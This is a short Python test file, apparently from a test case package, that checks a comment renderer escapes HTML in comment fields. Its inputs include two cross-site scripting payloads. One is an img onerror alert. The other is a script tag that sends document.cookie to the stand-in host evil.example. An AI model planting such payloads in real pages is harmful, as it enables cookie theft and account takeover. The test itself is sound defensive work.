import importlib
import os

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))


def test_comment_body_and_author_are_escaped():
    renderer = mod.CommentRenderer()
    html = renderer.render(mod.Comment(
        '<img src=x onerror="alert(1)">',
        "<script>fetch('//evil.example/?c='+document.cookie)</script>",
        "2024-05-01",
    ))
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()
